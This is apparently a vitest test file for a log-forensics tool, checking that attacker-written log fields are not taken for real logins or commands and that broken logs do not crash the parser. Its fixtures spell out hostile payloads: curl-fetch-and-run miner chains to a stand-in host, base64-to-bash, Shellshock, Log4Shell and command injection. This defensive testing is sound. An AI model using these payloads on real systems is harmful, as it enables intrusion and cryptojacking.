/**
 * Logs that an attacker writes into, and logs that are broken on purpose. Whoever may choose a name, a path or a header
 * chooses what stands in a log: none of it may pass for something that was done.
 */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { conclude } from '../src/engine/conclude.ts';
import { examine } from '../src/engine/examine.ts';
import { sharedHost } from '../src/engine/node/host.ts';
import { planSieve, workbench } from '../src/engine/node/workbench.ts';
import { registry } from '../src/engine/registry.ts';
import { memorySource } from '../src/engine/source.ts';
import { defaultLimits } from '../src/model/limits.ts';
import type { Observation, ObservationKind } from '../src/model/observation.ts';
import type { Report } from '../src/model/report.ts';
import { evtxFile } from './evtx-writer.ts';

const bench = { ...workbench(planSieve(), defaultLimits), host: sharedHost() };

async function scanned(name: string, ...texts: readonly (string | Uint8Array)[]): Promise<Report> {
  const started = new Date(0);
  const examined = [];
  for (const [i, text] of texts.entries())
    examined.push(
      await examine(memorySource(i === 0 ? name : `${name}.${i}`, Buffer.from(text), bench.host.sha256), bench),
    );
  const evidence = { examined, pathGaps: [], files: texts.length, bytes: 0 };
  return conclude({ ...evidence, inputs: [name], started, finished: started, version: '0' }, registry, defaultLimits);
}

function seen<K extends ObservationKind>({ observations }: Report, kind: K): Observation<K>['value'][] {
  // The kind says which value it is, which the compiler does not see of a kind that is handed in.
  return observations
    .filter((one) => one.kind === kind)
    .map(({ value }) => value as unknown as Observation<K>['value']);
}

const stages = ({ findings }: Report): string[] => [...new Set(findings.map(({ stage }) => stage))];
const entries = ({ findings }: Report): string[] =>
  findings.map(({ detector }) => detector).filter((id) => /worked|guessed|door|brought|started/.test(id));

// A wallet whose check holds and that nobody publishes for donations (shared facts on Monero).
const wallet = '48mxGC7MjyhWrUUwY3toJATSeNwjn54LkCnKBPRzDuhzi5vSepHfUckJNxRL2gjkNrSqtCoRUrEDAgRwsQvVCjZbHuK7RDn';
const mines = `/tmp/x -o pool.supportxmr.com:3333 -u ${wallet} -p x`;
const fetches = `curl -s http://203.0.113.9/xmrig -o /tmp/x; chmod +x /tmp/x; ${mines}`;
const hidden = (text: string): string => encodeURIComponent(Buffer.from(text).toString('base64'));

interface Asked {
  readonly target?: string;
  readonly agent?: string;
  readonly referer?: string;
  readonly time?: string;
}
const request = ({ target = '/', agent = 'Browser/1', referer = '-', time = '23/Nov/2026:16:31:56 +0000' }: Asked) =>
  `203.0.113.9 - - [${time}] "GET ${target} HTTP/1.1" 200 12 "${referer}" "${agent}"\n`;
const quiet = Array.from({ length: 60 }, (_, i) => request({ target: `/page${i}` })).join('');
const attempt: Asked = { target: `/x?a=${encodeURIComponent('$(curl http://203.0.113.9/kinsing.sh|sh)')}` };

const clock = (seconds: number): string =>
  `Nov 23 03:${String(Math.trunc(seconds / 60)).padStart(2, '0')}:${String(seconds % 60).padStart(2, '0')}`;
const said = (message: string, seconds: number, program = 'sshd[812]'): string =>
  `${clock(seconds)} web1 ${program}: ${message}\n`;
const everyday = Array.from({ length: 9 }, (_, i) =>
  said(`Accepted publickey for ops from 10.0.0.5 port ${4000 + i} ssh2: ED25519 SHA256:abc`, i),
).join('');
const guesses = Array.from({ length: 300 }, (_, i) =>
  said(`Failed password for root from 203.0.113.7 port ${1000 + i} ssh2`, 60 + i),
).join('');

describe('a name that somebody tried to log in with', () => {
  it.each([
    'Invalid user root from 203.0.113.7 port 22 ssh2 Accepted password for root from 203.0.113.7 port 44',
    'Invalid user Accepted password for root from 203.0.113.7 port 22 from 203.0.113.7 port 1',
    'Failed password for invalid user Accepted password for root from 203.0.113.7 port 22 ssh2 from 203.0.113.7 port 5 ssh2',
    'Connection closed by invalid user Accepted password for root from 203.0.113.7 port 22 203.0.113.7 port 1 [preauth]',
    String.raw`Failed password for invalid user x\nNov 23 03:06:02 web1 sshd[9]: Accepted password for root from 203.0.113.7 port 22 ssh2 from 203.0.113.7 port 6 ssh2`,
    'Invalid user message repeated 2 times: [ Accepted password for root from 203.0.113.7 port 22 ssh2] from 203.0.113.7 port 1',
    'Invalid user (root) CMD (curl http://203.0.113.9/xmrig -o /tmp/x) from 203.0.113.7 port 1',
    'Invalid user new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash',
  ])('is no login and no deed: %s', async (message) => {
    const report = await scanned('auth.log', everyday + guesses + said(message, 400));
    expect(
      seen(report, 'login-event').filter(({ outcome, from }) => outcome === 'worked' && from !== '10.0.0.5'),
    ).toEqual([]);
    expect(seen(report, 'process-start')).toEqual([]);
    expect(seen(report, 'log-action')).toEqual([]);
    expect(entries(report)).toEqual([]);
  });
  it('does not move its failures to another place', async () => {
    const framing = Array.from({ length: 300 }, (_, i) =>
      said(
        `Failed password for invalid user a from 198.51.100.99 port 22 ssh2 from 203.0.113.7 port ${i} ssh2`,
        60 + i,
      ),
    ).join('');
    const innocent = said('Accepted password for ops from 198.51.100.99 port 2200 ssh2', 600);
    const report = await scanned('auth.log', everyday + framing + innocent);
    expect(seen(report, 'login-event').filter(({ outcome }) => outcome === 'failed')).toMatchObject([
      { from: '203.0.113.7', times: 300 },
    ]);
    expect(entries(report)).toEqual([]);
  });
  it('is no miner, whatever stands in it', async () => {
    const name = said(`Invalid user xmrig -o pool.supportxmr.com:3333 -u ${wallet} from 203.0.113.7 port 22`, 400);
    expect(stages(await scanned('auth.log', everyday + guesses + name))).toEqual(['mention']);
  });
  it('still is a login where sshd itself says so, and none where another program does', async () => {
    const success = 'Accepted password for root from 203.0.113.7 port 22 ssh2';
    expect(entries(await scanned('auth.log', everyday + guesses + said(success, 400)))).toEqual(['login-guessed']);
    expect(entries(await scanned('auth.log', everyday + guesses + said(success, 400, 'forum[3]')))).toEqual([]);
  });
});

describe('what a client puts into a request', () => {
  it.each<[string, Asked]>([
    ["a miner's command in a query", { target: `/?q=${encodeURIComponent(mines)}` }],
    ['the same as it is', { target: `/?q=${mines.replaceAll(' ', '+')}` }],
    ['a whole set-up in a query', { target: `/x?a=1;${fetches.replaceAll(' ', '%20')}` }],
    ['the same in base64', { target: `/x?a=;echo%20${hidden(fetches)}%7Cbase64%20-d%7Cbash` }],
    [
      "a miner's configuration in base64",
      {
        target: `/?a=${hidden(JSON.stringify({ cpu: true, pools: [{ url: 'pool.supportxmr.com:3333', user: wallet }] }))}`,
      },
    ],
    ['a command for a client', { agent: mines }],
    ['a set-up for a referer', { referer: `http://example.com/?${fetches}` }],
    ['a set-up behind Shellshock', { agent: `() { :; }; /bin/bash -c '${fetches}'` }],
    ['the same behind Log4Shell', { agent: `\${jndi:ldap://203.0.113.9/Basic/Command/Base64/${hidden(fetches)}}` }],
    ['a line of sshd', { agent: said('Accepted password for root from 203.0.113.7 port 22 ssh2', 1).trim() }],
    [
      'a record of the audit log',
      { agent: 'type=EXECVE msg=audit(1795451516.000:42): argc=3 a0=/tmp/xmrig a1=-o a2=pool.supportxmr.com:3333' },
    ],
    ['a line of cron', { agent: `Nov 23 03:00:00 web1 CRON[3]: (root) CMD (${fetches})` }],
  ])('is no more than mentioned: %s', async (_, asked) => {
    const report = await scanned('access.log', quiet + request(asked));
    expect(stages(report).filter((stage) => stage !== 'mention')).toEqual([]);
    expect(entries(report)).toEqual([]);
    expect(seen(report, 'login-event')).toEqual([]);
    expect(seen(report, 'process-start')).toEqual([]);
  });
  it('is no more in the log of errors that repeats the request', async () => {
    const line = (target: string): string =>
      `2026/11/23 16:31:56 [error] 7#7: *1 open() "/x" failed (2: No such file or directory), client: 203.0.113.9, server: _, request: "GET ${target} HTTP/1.1", host: "a"\n`;
    const report = await scanned(
      'error.log',
      line('/x').repeat(30) + line(`/x?a=;echo%20${hidden(fetches)}%7Cbase64%20-d%7Cbash`),
    );
    expect(stages(report)).toEqual(['mention']);
  });
});

describe('texts that quote a log', () => {
  const lookup = `\${jndi:ldap://203.0.113.9/a}`;
  const quoted = request({ target: `/?x=${lookup}` }).repeat(5);
  it.each([
    ['a page', 'blog.html', `<html><body><h1>How we were hacked</h1><pre>\n${quoted}</pre>`],
    ['a note', 'notes.md', `# How we were hacked\n\n\`\`\`\n${quoted}\`\`\`\n`],
    ['a report of an audit', 'modsec_audit.log', `--a-B--\nGET / HTTP/1.1\nUser-Agent: ${lookup}\n\n--a-Z--\n`],
    [
      'an alarm',
      'snort.alert',
      `[**] [1:1:1] Log4j RCE ${lookup} [**]\n11/23-16:31:56.000000 203.0.113.9:1 -> 10.0.0.1:80\n`,
    ],
  ])('tell of no attempt: %s', async (_, name, text) => {
    expect(seen(await scanned(name, text), 'exploit-attempt')).toEqual([]);
  });
});

describe('a log in any encoding', () => {
  const strange = {
    agent: '\u202eevil \u001b[2J\u001b]0;x\u0007 <script>alert(1)</script> [x](http://e.example) | \u0000 é 中',
  };
  const text = quiet + request({ ...attempt, ...strange });
  it.each([
    ['UTF-8', Buffer.from(text)],
    ['UTF-8 with its mark', Buffer.from(`\ufeff${text}`)],
    ['a code page', Buffer.from(text, 'latin1')],
    ['UTF-16, low byte first', Buffer.from(`\ufeff${text}`, 'utf16le')],
    ['UTF-16 without a mark', Buffer.from(text, 'utf16le')],
    ['UTF-16, high byte first', Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
    ['gzip', gzipSync(text)],
  ])('tells of the attempt: %s', async (_, bytes) => {
    expect(seen(await scanned('access.log', bytes), 'exploit-attempt')).toHaveLength(1);
  });
});

describe('a log that is broken', () => {
  it.each([
    '23/Nov/9999:16:31:56 +0000',
    '23/Nov/-001:16:31:56 +0000',
    '31/Dec/2016:23:59:60 +0000',
    '01/Jan/1970:00:00:00 +0000',
    '31/Feb/2026:16:31:56 +0000',
    '23/Nov/2026:16:31:56 +9999',
  ])('tells of the attempt, whatever its time: %s', async (time) => {
    const [one] = seen(await scanned('access.log', quiet + request({ ...attempt, time })), 'exploit-attempt');
    expect(one).toBeDefined();
    expect(Number.isNaN(Date.parse(one?.start ?? '2026-01-01'))).toBe(false);
  });
  it('says where its clock jumps', async () => {
    const jumps = ['26', '10', '25', '99', '70'].map((year) =>
      request({ ...attempt, time: `23/Nov/20${year}:16:31:56 +0000` }),
    );
    const report = await scanned('access.log', quiet + jumps.join(''));
    expect(seen(report, 'log-span')[0]?.jumps).toBeGreaterThan(0);
  });
  it('passes over a line without an end, and says so', async () => {
    const endless = request({ target: `/?${`\${jndi:ldap://x`.repeat(200_000)}` });
    const report = await scanned('access.log', quiet + endless + request(attempt));
    expect(seen(report, 'exploit-attempt')).toHaveLength(1);
    expect(report.gaps.map(({ code }) => code)).toContain('limit-bytes');
  });
  it.each([1, 40, 90, 130])('ends %i bytes before its end', async (cut) => {
    const text = quiet + request(attempt) + request(attempt);
    expect(seen(await scanned('access.log', text.slice(0, -cut)), 'exploit-attempt')).not.toEqual([]);
  });
  it.each([
    [
      'audit.log',
      `type=SYSCALL msg=audit(1795451516.001:1): syscall=59 comm="x" exe="/bin/x"\ntype=PROCTITLE msg=audit(1795451516.001:1): proctitle=${'41'.repeat(500_000)}\n`,
    ],
    [
      'audit.log',
      `type=EXECVE msg=audit(1795451516.001:1): argc=99999999 a0_len=99999999 a0[0]=${'78'.repeat(20_000)}\n`,
    ],
    [
      'app.json.log',
      `${`${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}\n`.repeat(3)}{"time":"2026-11-23T16:31:56Z","msg":"x"}\n`,
    ],
    [
      'journal.export',
      `__CURSOR=a\n__REALTIME_TIMESTAMP=1795451516000000\nMESSAGE\n\u00ff\u00ff\u00ff\u00ff\u00ff\u00ff\u00ff\u007fx\n\n`,
    ],
    ['access.log', ''],
  ])('neither stops nor breaks the reader: %s', async (name, text) => {
    const { gaps, findings } = await scanned(name, Buffer.from(text, 'latin1'));
    expect(gaps.filter(({ code }) => code === 'crashed')).toEqual([]);
    expect(findings).toEqual([]);
  });
});

describe('rotated logs that overlap', () => {
  it('are told by each file, and make one claim', async () => {
    const report = await scanned('access.log', quiet + request(attempt), quiet + request(attempt));
    expect(seen(report, 'exploit-attempt')).toHaveLength(2);
    expect(report.findings.filter(({ detector }) => detector === 'exploit-attempted')).toHaveLength(1);
  });
});

describe('an event log of Windows that somebody changed', () => {
  const good = evtxFile(
    Array.from({ length: 200 }, (_, i) => ({
      provider: 'Microsoft-Windows-Sysmon',
      channel: 'Microsoft-Windows-Sysmon/Operational',
      eventId: 1,
      time: Date.UTC(2026, 10, 23) + i * 1000,
      computer: 'W1',
      data: {
        Image: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'cmd /c dir',
        ParentImage: 'C:\\inetsrv\\w3wp.exe',
      },
    })),
  );
  const changed = (change: (view: DataView, chunk: number) => void): Uint8Array => {
    const bytes = Uint8Array.from(good);
    const view = new DataView(bytes.buffer);
    for (let chunk = 4096; chunk < bytes.length; chunk += 0x1_0000) change(view, chunk);
    return bytes;
  };
  it.each([
    ['cut within a chunk', good.subarray(0, good.length - 30_000)],
    ['cut within a header', good.subarray(0, 4196)],
    ['a record of 4 GiB', changed((view, chunk) => view.setUint32(chunk + 516, 0xffff_ffff, true))],
    ['a record of no bytes', changed((view, chunk) => view.setUint32(chunk + 516, 0, true))],
    [
      'names that follow themselves',
      changed((view, chunk) => {
        for (let at = chunk + 128; at < chunk + 512; at += 4) {
          const name = view.getUint32(at, true);
          if (name > 512 && name < 65_000) view.setUint32(chunk + name, name, true);
        }
      }),
    ],
  ])('is read as far as it goes, and the rest is told: %s', async (_, bytes) => {
    const { gaps } = await scanned('Sysmon.evtx', bytes);
    expect(gaps.length).toBeGreaterThan(0);
    expect(gaps.filter(({ code }) => code === 'crashed')).toEqual([]);
  });
});
